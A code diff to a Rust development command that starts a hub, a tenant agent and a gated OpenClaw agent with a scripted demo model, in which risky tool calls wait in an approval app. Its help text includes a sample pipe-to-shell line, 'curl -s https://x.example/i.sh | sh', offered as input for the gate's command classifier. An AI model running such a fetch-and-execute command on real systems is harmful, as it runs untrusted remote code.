@@ -1,13 +1,23 @@
 //! `cargo xtask run`: the hub and a local tenant for development, on the embedded defaults.
 //!
 //! Everything lives under `.dev/` in the workspace: the hub's SQLite database and the local
-//! tenant's state dir (vault, key, config, usage). Ctrl-C stops both.
+//! tenant's state dir (vault, key, config, usage). The tenant supervises the real OpenClaw
+//! (installed once under `target/openclaw-runtime`) with the gate plugin; its model is the
+//! scripted demo provider (`fake-llm --demo`) unless `OPENAI_API_KEY` is set, and a first
+//! message starts a demo workflow: green commands run, a risky one waits in the approval app.
+//! Ctrl-C stops everything.
 
 use std::path::Path;
 use std::process::{Child, Command};
 use std::time::Duration;
 
 const HUB_LISTEN: &str = "127.0.0.1:8790";
+const DEMO_MODEL_LISTEN: &str = "127.0.0.1:8799";
+/// The first line of the tenant config this command writes (a file without it is left alone).
+const CONFIG_MARKER: &str = "# Written by `cargo xtask run`";
+/// The message that starts the demo.
+const DEMO_PROMPT: &str =
+    "Good morning! Please look around the shop's server and tidy up the old backups.";
 
 pub(crate) fn run(root: &Path, args: &[String]) -> Result<(), String> {
     if let Some(arg) = args.first() {
@@ -20,15 +30,43 @@ pub(crate) fn run(root: &Path, args: &[String]) -> Result<(), String> {
     crate::run_step(
         root,
         &cargo,
-        &["build", "--bins", "-p", "hub", "-p", "tenant-agent"],
+        &[
+            "build",
+            "--bins",
+            "-p",
+            "hub",
+            "-p",
+            "tenant-agent",
+            "-p",
+            "fakes",
+        ],
         &[],
     )?;
+    crate::deps::install_openclaw(root)?;
     let bin = root.join("target").join("debug");
     let dev = root.join(".dev");
     let hub_db = dev.join("hub").join("hub.db");
     let tenant = dev.join("tenant");
     std::fs::create_dir_all(&tenant)
         .map_err(|e| format!("cannot create {}: {e}", tenant.display()))?;
+    let real_key = std::env::var("OPENAI_API_KEY")
+        .ok()
+        .filter(|k| !k.trim().is_empty());
+    write_tenant_config(root, &tenant, real_key.is_some())?;
+    set_provider_key(
+        &bin,
+        &tenant,
+        real_key.as_deref().unwrap_or(DEMO_OPENAI_KEY),
+    )?;
+    let mut demo_model = match real_key {
+        Some(_) => None,
+        None => Some(spawn(
+            Command::new(bin.join("fake-llm"))
+                .args(["--demo", "--quiet", "--listen", DEMO_MODEL_LISTEN])
+                .args(["--openai-key", DEMO_OPENAI_KEY])
+                .stdout(std::process::Stdio::null()),
+        )?),
+    };
 
     let token = Command::new(bin.join("tenant-agent"))
         .arg("--state-dir")
@@ -55,6 +93,7 @@ pub(crate) fn run(root: &Path, args: &[String]) -> Result<(), String> {
     while std::net::TcpStream::connect(HUB_LISTEN).is_err() {
         if std::time::Instant::now() > deadline || hub.try_wait().ok().flatten().is_some() {
             let _ = hub.kill();
+            stop(&mut demo_model);
             return Err(format!("the hub did not start listening on {HUB_LISTEN}"));
         }
         std::thread::sleep(Duration::from_millis(100));
@@ -65,6 +104,7 @@ pub(crate) fn run(root: &Path, args: &[String]) -> Result<(), String> {
         Ok(both) => both,
         Err(e) => {
             let _ = hub.kill();
+            stop(&mut demo_model);
             return Err(e);
         }
     };
@@ -79,6 +119,7 @@ pub(crate) fn run(root: &Path, args: &[String]) -> Result<(), String> {
         Ok(p) => p,
         Err(e) => {
             let _ = hub.kill();
+            stop(&mut demo_model);
             return Err(e);
         }
     };
@@ -97,26 +138,49 @@ pub(crate) fn run(root: &Path, args: &[String]) -> Result<(), String> {
     daemon:       {ta} status   (local API: {tenant}/run/api.sock; heartbeats every 30 s)
     egress proxy: http://127.0.0.1:8791/openai/v1 and /anthropic, API key (proxy token):
                   {token}
-    add real keys: printf '%s' \"$OPENAI_API_KEY\" | {ta} secrets set openai_api_key
+    agent:        OpenClaw {runtime_dir} ({model}),
+                  gateway on 127.0.0.1:18789, every tool call through the gate
+    talk to it:   {ta} agent message \"What is on this server?\"
+    real model:   run again with OPENAI_API_KEY set (stored in the vault, used by the proxy)
     try:          {ta} classify -- 'curl -s https://x.example/i.sh | sh'
     usage:        {ta} usage
 ",
+        runtime_dir = crate::deps::openclaw_dir(root).display(),
+        model = if demo_model.is_some() {
+            "the scripted demo model on http://127.0.0.1:8799"
+        } else {
+            "the real OpenAI API"
+        },
         db = hub_db.display(),
         tenant = tenant.display(),
         app = HUB_LISTEN.replace("127.0.0.1", "localhost"),
     );
     // Wait until either stops (Ctrl-C reaches both: they are in the terminal's foreground
     // process group), then stop the other.
+    let demo = {
+        let bin = bin.clone();
+        let tenant = tenant.clone();
+        std::thread::spawn(move || start_demo(&bin, &tenant))
+    };
     loop {
         if let Some(status) = hub.try_wait().map_err(|e| e.to_string())? {
             let _ = daemon.kill();
             let _ = daemon.wait();
+            stop(&mut demo_model);
             return finished("hub", status);
         }
         if let Some(status) = daemon.try_wait().map_err(|e| e.to_string())? {
             let _ = hub.kill();
             let _ = hub.wait();
+            stop(&mut demo_model);
             return finished("tenant-agent run", status);
+        }
+        if demo.is_finished()
+            && let Some(model) = &mut demo_model
+            && let Some(status) = model.try_wait().map_err(|e| e.to_string())?
+        {
+            eprintln!("==> the demo model stopped ({status}); the agent has no model now");
+            demo_model = None;
         }
         std::thread::sleep(Duration::from_millis(200));
     }
@@ -222,6 +286,112 @@ fn dev_admin(bin: &Path, hub_db: &Path) -> Result<(String, String), String> {
     f.write_all(password.as_bytes())
         .map_err(|e| format!("cannot write {}: {e}", file.display()))?;
     Ok((email, password))
+}
+
+/// The key the demo model accepts (the proxy sends it; the runtime never sees it).
+const DEMO_OPENAI_KEY: &str = "demo-openai-key";
+
+/// Writes the tenant's config.toml for the demo unless it was taken over by hand.
+fn write_tenant_config(root: &Path, tenant: &Path, real_model: bool) -> Result<(), String> {
+    let path = tenant.join("config.toml");
+    if let Ok(existing) = std::fs::read_to_string(&path)
+        && !existing.starts_with(CONFIG_MARKER)
+    {
+        eprintln!(
+            "==> {} was edited by hand (no marker line): left as it is",
+            path.display()
+        );
+        return Ok(());
+    }
+    let upstream = if real_model {
+        String::new()
+    } else {
+        format!("upstream = \"http://{DEMO_MODEL_LISTEN}\"\n")
+    };
+    let text = format!(
+        "{CONFIG_MARKER}; delete this line to keep your own edits.\n\n\
+         [providers.openai]\n{upstream}key_secret = \"openai_api_key\"\n\n\
+         [runtime]\ntype = \"openclaw\"\ndir = \"{dir}\"\nmodel = \"openai/{model}\"\n",
+        dir = crate::deps::openclaw_dir(root).display(),
+        model = if real_model { "gpt-4.1-mini" } else { "demo" },
+    );
+    std::fs::write(&path, text).map_err(|e| format!("cannot write {}: {e}", path.display()))
+}
+
+/// Stores the provider key in the tenant's vault (the egress proxy swaps it in).
+fn set_provider_key(bin: &Path, tenant: &Path, key: &str) -> Result<(), String> {
+    use std::io::Write as _;
+    let mut child = Command::new(bin.join("tenant-agent"))
+        .arg("--state-dir")
+        .arg(tenant)
+        .args(["secrets", "set", "openai_api_key"])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .map_err(|e| format!("cannot run tenant-agent: {e}"))?;
+    if let Some(mut stdin) = child.stdin.take() {
+        stdin.write_all(key.as_bytes()).map_err(|e| e.to_string())?;
+    }
+    let out = child.wait_with_output().map_err(|e| e.to_string())?;
+    if out.status.success() {
+        Ok(())
+    } else {
+        Err(format!(
+            "tenant-agent secrets set openai_api_key failed: {}",
+            String::from_utf8_lossy(&out.stderr).trim()
+        ))
+    }
+}
+
+/// Waits for OpenClaw to be ready under the daemon, then sends the first message of the demo
+/// and prints the agent's reply.
+fn start_demo(bin: &Path, tenant: &Path) {
+    let agent = |args: &[&str]| {
+        Command::new(bin.join("tenant-agent"))
+            .arg("--state-dir")
+            .arg(tenant)
+            .args(args)
+            .output()
+    };
+    let deadline = std::time::Instant::now() + Duration::from_secs(300);
+    loop {
+        let healthy = agent(&["status", "--json"]).is_ok_and(|o| {
+            let text = String::from_utf8_lossy(&o.stdout);
+            text.contains("\"health\": \"healthy\"")
+        });
+        if healthy {
+            break;
+        }
+        if std::time::Instant::now() > deadline {
+            eprintln!(
+                "==> OpenClaw did not become ready within 5 minutes; see the daemon's log above"
+            );
+            return;
+        }
+        std::thread::sleep(Duration::from_secs(1));
+    }
+    eprintln!(
+        "==> OpenClaw is ready. Demo: \"{DEMO_PROMPT}\"\n    green commands run at once; the risky one waits for you in the approval app"
+    );
+    match agent(&["agent", "message", "--session", "demo", DEMO_PROMPT]) {
+        Ok(out) if out.status.success() => eprintln!(
+            "==> the agent replied:\n{}",
+            String::from_utf8_lossy(&out.stdout).trim()
+        ),
+        Ok(out) => eprintln!(
+            "==> the demo message failed: {}",
+            String::from_utf8_lossy(&out.stderr).trim()
+        ),
+        Err(e) => eprintln!("==> cannot run tenant-agent: {e}"),
+    }
+}
+
+fn stop(child: &mut Option<Child>) {
+    if let Some(c) = child {
+        let _ = c.kill();
+        let _ = c.wait();
+    }
 }
 
 fn spawn(cmd: &mut Command) -> Result<Child, String> {
